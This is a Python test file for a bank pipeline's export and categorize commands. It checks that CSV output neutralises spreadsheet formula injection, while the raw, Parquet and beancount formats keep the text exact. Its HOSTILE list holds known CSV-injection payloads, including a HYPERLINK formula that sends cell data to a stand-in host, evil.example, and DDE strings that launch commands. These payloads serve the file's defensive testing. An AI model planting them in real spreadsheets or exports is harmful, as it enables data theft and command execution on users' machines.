"""Exports safe to open in a spreadsheet: text a spreadsheet would run as a formula (OWASP's CSV
injection cases) is neutralised in CSV, written verbatim with `--raw`, exact in Parquet and
beancount; derived merchant names and `categorize --merchant` never start like a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from bank_pipeline.cli import main
from bank_pipeline.db import make_engine
from bank_pipeline.db.schema import enrichments
from bank_pipeline.enrich import enrich_account_days
from bank_pipeline.enrich.offline import OfflineModel
from bank_pipeline_tests.enrich_support import add_transactions, make_account
from bank_pipeline_tests.fixtures.clock import TODAY

DAY = TODAY - dt.timedelta(days=3)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
]


@pytest.fixture
def hostile(sqlite_url):
    engine = make_engine(sqlite_url)
    account = make_account(engine)
    ids = add_transactions(engine, account, [(DAY, text, "-1.00", text) for text in HOSTILE])
    ids += add_transactions(engine, account, [(DAY, "TESCO STORES 3217", "-23.45")])
    enrich_account_days(engine, {account: [DAY]}, OfflineModel(), run_id="hostile")
    yield sqlite_url, engine, ids
    engine.dispose()


def _export(url, monkeypatch, capsysbinary, *extra) -> bytes:
    monkeypatch.setenv("BANK_PIPELINE_DATABASE_URL", url)
    assert main(["export", "--from", f"{DAY}", "--to", f"{DAY}", *extra]) == 0
    return capsysbinary.readouterr().out


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_derived_merchant_names_never_start_like_a_formula(hostile):
    _, engine, _ = hostile
    with engine.connect() as conn:
        merchants = [m for m in conn.execute(sa.select(enrichments.c.merchant)).scalars() if m]
    assert merchants and not [m for m in merchants if m[0] in "=+-@\t\r"]
    assert "1+2" in merchants  # what is left of the name is kept


def test_csv_neutralises_formula_cells_and_raw_writes_them_verbatim(hostile, monkeypatch, capsysbinary):
    url, _, _ = hostile
    rows = _rows(_export(url, monkeypatch, capsysbinary, "--format", "csv"))
    by_text = {r["description"].removeprefix("'"): r for r in rows}
    assert set(by_text) == {*HOSTILE, "TESCO STORES 3217"}
    for text in HOSTILE:
        row = by_text[text]
        assert row["description"] == "'" + text and row["merchant_name"] == "'" + text
        assert row["amount"] == "-1.00"  # numbers are numbers: never prefixed
    assert by_text["TESCO STORES 3217"]["description"] == "TESCO STORES 3217"
    # No text cell of the file starts like a formula.
    for row in rows:
        for name, value in row.items():
            if name != "amount":
                assert not value or value[0] not in "=+-@\t\r", (name, value)

    raw = _rows(_export(url, monkeypatch, capsysbinary, "--format", "csv", "--raw"))
    assert sorted(r["description"] for r in raw) == sorted([*HOSTILE, "TESCO STORES 3217"])
    assert {r["merchant_name"] for r in raw} >= set(HOSTILE)


def test_parquet_and_beancount_keep_the_text_exact(hostile, monkeypatch, capsysbinary, tmp_path):
    url, _, _ = hostile
    monkeypatch.setenv("BANK_PIPELINE_DATABASE_URL", url)
    out = tmp_path / "ledger.parquet"
    assert main(["export", "--from", f"{DAY}", "--to", f"{DAY}", "--format", "parquet", "--out", str(out)]) == 0
    assert set(pq.read_table(out).column("description").to_pylist()) == {*HOSTILE, "TESCO STORES 3217"}
    bean = _export(url, monkeypatch, capsysbinary, "--format", "beancount").decode()
    assert '"=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"' in bean
    assert "\"'=" not in bean


def test_categorize_refuses_a_merchant_that_is_a_formula(hostile, monkeypatch, capsys):
    url, engine, ids = hostile
    monkeypatch.setenv("BANK_PIPELINE_DATABASE_URL", url)
    with engine.connect() as conn:
        before = conn.execute(sa.select(enrichments).order_by(enrichments.c.transaction_id)).all()
    code = main(["categorize", str(ids[-1]), "groceries", "--merchant", '=HYPERLINK("http://evil.example")'])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "formula" in err
    with engine.connect() as conn:
        assert conn.execute(sa.select(enrichments).order_by(enrichments.c.transaction_id)).all() == before
    assert main(["categorize", str(ids[-1]), "groceries", "--merchant", "Tesco"]) == 0
